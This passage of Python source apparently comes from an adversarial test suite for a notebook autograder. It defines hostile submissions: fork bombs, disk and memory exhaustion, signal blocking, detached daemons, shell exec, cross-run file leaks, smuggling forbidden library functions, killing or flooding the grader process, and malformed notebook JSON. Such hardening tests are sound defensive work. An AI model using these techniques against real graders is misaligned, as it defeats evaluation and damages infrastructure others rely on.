        subprocess.run({TOUCH!r}, shell=True, check=False)
        """,
        f"os.system({TOUCH!r})\nreturn 0.0",
        witness="shell.txt",
    ),
]


# ---------------------------------------------------------------- exhausting the machine


EXHAUSTING = [
    Plan(
        "forks",
        "It forks 300 processes that sleep for three seconds, in one task; the others are honest.",
        "made = []",
        """
import time
try:
    while len(made) < 300:
        made.append(os.fork())
        if made[-1] == 0:
            time.sleep(3)
            os._exit(0)
        if len(made) == 300:
            witness("forks.txt", made)
except OSError:
    pass
return np.zeros(3)
""",
        witness="forks.txt",
        attacked="hangover",
    ),
    Plan(
        "fills-the-disk",
        "It writes 200 MB among the witnesses and 200 MB into a temporary file, in one task; the others are honest.",
        "",
        """
import tempfile
block = bytes(2**20)
try:
    with tempfile.TemporaryFile() as file:
        for _ in range(200):
            file.write(block)
except OSError:
    pass
folder = pathlib.Path(os.environ.get("AUDIOCOURSE_WITNESS") or tempfile.gettempdir() + "/FOLDER")
with (folder / "filled.bin").open("wb") as file:
    for _ in range(200):
        file.write(block)
return np.zeros(3)
""".replace("FOLDER", WITNESSES.name),
        witness="filled.bin",
        attacked="hangover",
    ),
    *(
        Plan(
            f"borrows-too-much-{name}",
            f"It asks whoever lends the course's own stages for a result that takes {what}.",
            "many = [(float(k), k + 0.5) for k in range(15_000)]",
            f"if NUMBER == 2:\n    {call}\nreturn 0.0",
        )
        for name, what, call in (
            ("seconds", "a minute and a half", "mine_or_reference('detection_error')(many, many)"),
            (
                "memory",
                "five gigabytes",
                "mine_or_reference('mel_triangles')(np.arange(25_000.0), np.arange(25_000.0))",
            ),
        )
    ),
    Plan(
        "memory-with-the-limits-lifted",
        "It lifts every resource limit it can and allocates 6 GB.",
        """
        import resource
        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                try:
                    resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                except (OSError, ValueError):
                    pass
        """,
        "held = [np.ones(2**24) for _ in range(48)]\nreturn len(held)",
    ),
    Plan(
        "alarm-taken-away",
        "It stops every timer, ignores every signal, and then never ends.",
        """
        import signal as signals
        def deaf():
            for timer in (signals.ITIMER_REAL, signals.ITIMER_VIRTUAL, signals.ITIMER_PROF):
                signals.setitimer(timer, 0)
            for number in range(1, 65):
                try:
                    signals.signal(number, signals.SIG_IGN)
                except (OSError, ValueError):
                    pass
            signals.pthread_sigmask(signals.SIG_BLOCK, range(1, 65))
        """,
        "import time\ndeaf()\nend = time.monotonic() + 120\nwhile time.monotonic() < end:\n    pass",
    ),
    Plan(
        "opens-everything",
        "It opens a thousand pipes and starts hundreds of threads.",
        """
        import threading
        held = []
        """,
        "import time\nwhile len(held) < 1000:\n    held.append(os.pipe())\nfor _ in range(200 * (NUMBER == 0)):\n"
        "    threading.Thread(target=time.sleep, args=(3,), daemon=True).start()\nreturn len(held)",
    ),
]


# ---------------------------------------------------------------- outliving the grading


OUTLIVING = [
    Plan(
        "daemon",
        "It leaves a process in a session of its own that writes the witness two seconds later.",
        """
        def linger():
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    import time
                    time.sleep(2)
                    witness("daemon.txt", os.getpid())
                os._exit(0)
        """,
        "if NUMBER == 3:\n    linger()\nreturn 0.0",
        witness="daemon.txt",
    ),
    Plan(
        "at-exit",
        "It leaves exit functions, finalisers, threads and signal handlers that write the witness when it is ended.",
        """
        import atexit, signal as signals, threading, time, weakref
        def last_words(*_):
            witness("exit.txt", os.getpid())
        atexit.register(last_words)
        class Final:
            def __del__(self):
                last_words()
        final = Final()
        weakref.finalize(final, last_words)
        for number in (signals.SIGTERM, signals.SIGHUP, signals.SIGUSR1):
            signals.signal(number, last_words)
        threading.Thread(target=lambda: (time.sleep(2), last_words()), daemon=False).start()
        """,
        "return 0.0",
        witness="exit.txt",
    ),
    Plan(
        "becomes-another",
        "It replaces its process by a shell that writes the witness after two seconds.",
        "",
        f"os.execv('/bin/sh', ['sh', '-c', {'sleep 2; ' + SHELL + 'other.txt'!r}])",
        witness="other.txt",
    ),
    Plan(
        "two-answers",
        "It forks inside an answer, so that two processes answer the same question.",
        "twins = []",
        """
if not twins and NUMBER == 3:
    twins.append(os.fork())
    if twins == [0]:
        import signal as signals
        signals.signal(signals.SIGALRM, signals.SIG_DFL)
        signals.alarm(5)  # the twin does not live long, and has no twin of its own
return np.full(3, bool(sum(twins)))
""",
    ),
]


# ---------------------------------------------------------------- keeping what a task forbids, before it is forbidden

KEEPING = """
import functools, librosa, scipy.ndimage
from librosa import power_to_db
from scipy.ndimage import binary_dilation

def level(to_db, frames):
    return to_db(np.mean(np.square(frames, dtype=np.float64), axis=0), amin=1e-10, top_db=None)

def hang(dilate, active, frames):
    return dilate(active, np.arange(-frames, frames + 1) >= 0)
"""
USING = """
if TASK == "frame_level_db":
    return level(kept()[0], *arguments)
if TASK == "hangover":
    return hang(kept()[1], *arguments, **options)
raise LookupError("nothing kept")
"""
KEPT = {
    "list": "LIST = [librosa.power_to_db, scipy.ndimage.binary_dilation]\nkept = lambda: LIST",
    "default": "def kept(one=librosa.power_to_db, two=scipy.ndimage.binary_dilation):\n    return one, two",
    "closure": "def keep(*both):\n    return lambda: both\nkept = keep(power_to_db, binary_dilation)",
    "class": "class Kept:\n    one = staticmethod(power_to_db)\n    two = staticmethod(binary_dilation)\n"
    "kept = lambda: (Kept.one, Kept.two)",
    "partial": "BOTH = [functools.partial(librosa.power_to_db), functools.partial(scipy.ndimage.binary_dilation)]\n"
    "kept = lambda: BOTH",
    "attribute": "def kept():\n    return kept.one, kept.two\n"
    "kept.one, kept.two = librosa.power_to_db, scipy.ndimage.binary_dilation",
    "own-module": "from scipy.ndimage._morphology import binary_dilation\n"
    "from librosa.core.spectrum import power_to_db\nLIST = [power_to_db, binary_dilation]\nkept = lambda: LIST",
    "reload": "for name in [name for name in sys.modules if name.startswith('scipy.ndimage._morph')]:\n"
    "    del sys.modules[name]\nfrom scipy.ndimage._morphology import binary_dilation\n"
    "LIST = [None, binary_dilation]\nkept = lambda: LIST",
    "second-copy": "import importlib.util\nspec = importlib.util.find_spec('scipy.ndimage._morphology')\n"
    "copy = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(copy)\n"
    "LIST = [None, copy.binary_dilation]\nkept = lambda: LIST",
    "late-copy": "def kept():\n    for name in [name for name in sys.modules if 'ndimage._morph' in name]:\n"
    "        del sys.modules[name]\n    from scipy.ndimage._morphology import binary_dilation\n"
    "    return None, binary_dilation",
    "generator": "def both():\n    while True:\n        yield librosa.power_to_db, scipy.ndimage.binary_dilation\n"
    "BOTH = both()\nnext(BOTH)\nkept = lambda: next(BOTH)",
    "twins": "from scipy.ndimage import grey_dilation\n"
    "grey = lambda active, footprint: grey_dilation(active, footprint=footprint)\n"
    "LIST = [librosa.amplitude_to_db, grey]\nkept = lambda: LIST",
}
KEEPS = [
    Plan(
        f"keeps-forbidden-{name}",
        f"It keeps what is forbidden ({name}) while its cell is loaded.",
        KEEPING + keep,
        USING,
    )
    for name, keep in KEPT.items()
]


# ---------------------------------------------------------------- carrying hidden data to the student's own page

CARRYING = [
    Plan(
        "carries-by-a-file",
        "It writes what it is called with into files, and prints them when a later process finds any.",
        """
        FOLDERS = (".", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp")
        KEPT = [pathlib.Path(folder, "kept.txt") for folder in FOLDERS]
        def there(path):
            try:
                return path.exists()
            except OSError:
                return False
        FOUND = [path for path in KEPT if there(path)]
        """,
        """
for path in KEPT:
    try:
        path.write_text(repr(arguments)[:1000])
    except OSError:
        pass
if FOUND:
    print(SECRET)
return None
""",
    ),
]


# ---------------------------------------------------------------- harming the grader

PARENT = """
import signal as signals
def at_parent(number):
    parent = os.getppid()
    try:
        python = "python" in pathlib.Path(f"/proc/{parent}/cmdline").read_text() or parent < 20
    except OSError:
        python = True
    if python and parent > 1:  # a shell or a desktop that started an run outside a sandbox by accident is spared
        os.kill(parent, number)
"""


FILLING = [
    Plan("returns-16-mb-each-time", "It returns sixteen megabytes from each call.", "", "return np.zeros(2**21)"),
    Plan(
        "returns-many-values",
        "It returns ninety thousand words from each call.",
        "",
        "return [f'word {number}' for number in range(90_000)]",
    ),
    Plan("returns-a-long-text", "It returns a million letters from each call.", "", "return 'a' * 2**20"),
    Plan(
        "speaks-in-odd-numbers",
        "It tells the grader while it is loaded that cells of no possible number are being loaded.",
        """
        import json, socket, stat, struct
        def speak(header):
            header = header.encode()
            for number in range(3, 64):
                try:
                    if stat.S_ISSOCK(os.fstat(number).st_mode):
                        os.write(number, struct.pack("<4sHIQ", b"ACG\\n", 1, len(header), 0) + header)
                except OSError:
                    pass
        for at in ('{"float":"inf"}', "1e300", "-1", '"x"', "null", "[]", "9" * 600):
            speak('{"dict":{"at":' + at + "}}")
        """,
        "return 0.0",
    ),
]


HARMING = [
    *(
        Plan(
            name,
            f"It sends {number} to its parent.",
            PARENT,
            f"at_parent(signals.{number})\nreturn 0.0",
            attacked="detection_error",
        )
        for name, number in (
            ("kills-its-parent", "SIGKILL"),
            ("stops-its-parent", "SIGSTOP"),
            ("ends-its-parent", "SIGTERM"),
        )
    ),
    Plan(
        "kills-its-group",
        "It sends SIGKILL to its process group.",
        "import signal as signals",
        "os.killpg(os.getpgrp(), signals.SIGKILL)",
        attacked="detection_error",
    ),
    Plan(
        "closes-everything",
        "It closes every descriptor it has and goes on.",
        "",
        "os.closerange(0, 1024)\nreturn 0.0",
        attacked="detection_error",
    ),
    Plan(
        "floods-the-descriptors",
        "It writes four megabytes of zeros into every pipe and socket it has inherited.",
        """
        import stat
        def flood():
            for number in range(256):
                try:
                    mode = os.fstat(number).st_mode
                    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                        os.set_blocking(number, False)
                        for _ in range(64):
                            os.write(number, bytes(65_536))
                except OSError:
                    pass
        """,
        "flood()\nreturn 0.0",
    ),
]


PLANS = [
    *BORROWING,
    *READING,
    *LOOKING_AROUND,
    *LYING,
    *PATCHING,
    *SPEAKING,
    *REACHING_OUT,
    *EXHAUSTING,
    *OUTLIVING,
    *KEEPS,
    *CARRYING,
    *FILLING,
    *HARMING,
]


# ---------------------------------------------------------------- breaking whoever reads the file


def _break_the_reader() -> Iterator[Attack]:
    plain = attacking_notebook("", "return 0.0", {})
    raw = json.loads(notebook_text(plain))
    nest = 100_000
    deep = json.dumps({**raw, "metadata": "NEST"}).replace('"NEST"', '{"a":' + "[" * nest + "]" * nest + "}")
    yield Attack("deep-json", "Its metadata is a list in a list, a hundred thousand deep.", deep.encode())
    long = json.dumps({**raw, "nbformat_minor": "NUMBER"}).replace('"NUMBER"', "9" * 100_000)
    yield Attack("long-number", "Its format number has a hundred thousand digits.", long.encode())
    for name, what, source in (
        ("deep-source", "Its cells hold sources nested deeper than a parser goes.", "x = " + "-" * 50_000 + "1"),
        ("deep-brackets", "Its cells hold ten thousand brackets.", "x = " + "(" * 10_000 + ")" * 10_000),
        ("deep-calls", "Its cells hold a chain of twenty thousand attributes.", "x = a" + ".b" * 20_000),
        ("odd-source", "Its cells hold null characters and half characters.", "\0 \ud800\ndef hangover(:"),
        ("long-magic", "Its cells hold magics of a hundred thousand characters.", "%" * 50_000 + "!" * 50_000),
        ("power-tower", "Its cells hold a constant that no computer can fold.", "x = 9**9**9**9"),
        ("big-constant", "Its cells hold a text that multiplies itself.", "x = 'a' * 10**12"),
    ):
        cells = [{**cell, "source": source} if cell["cell_type"] == "code" else cell for cell in raw["cells"]]
        yield Attack(name, what, json.dumps({**raw, "cells": cells}).encode())
    crowd = [
        {"cell_type": "code", "id": f"c{n}", "metadata": {}, "outputs": [], "source": "x=1"} for n in range(20_000)
    ]
    yield Attack("crowd", "It has twenty thousand cells.", json.dumps({**raw, "cells": crowd}).encode())
    odd = [
        {**cell, "metadata": {"tags": ["task:hangover", "task:../../etc", "task:", 5, None, {"a": 1}]}, "outputs": 5}
        for cell in raw["cells"]
    ]
    yield Attack("odd-tags", "Its tags are numbers, nothing and paths.", json.dumps({**raw, "cells": odd}).encode())
    types = [{**cell, "cell_type": "check", "metadata": []} for cell in raw["cells"]]
    yield Attack("odd-types", "Its cells are of no known type.", json.dumps({**raw, "cells": types}).encode())
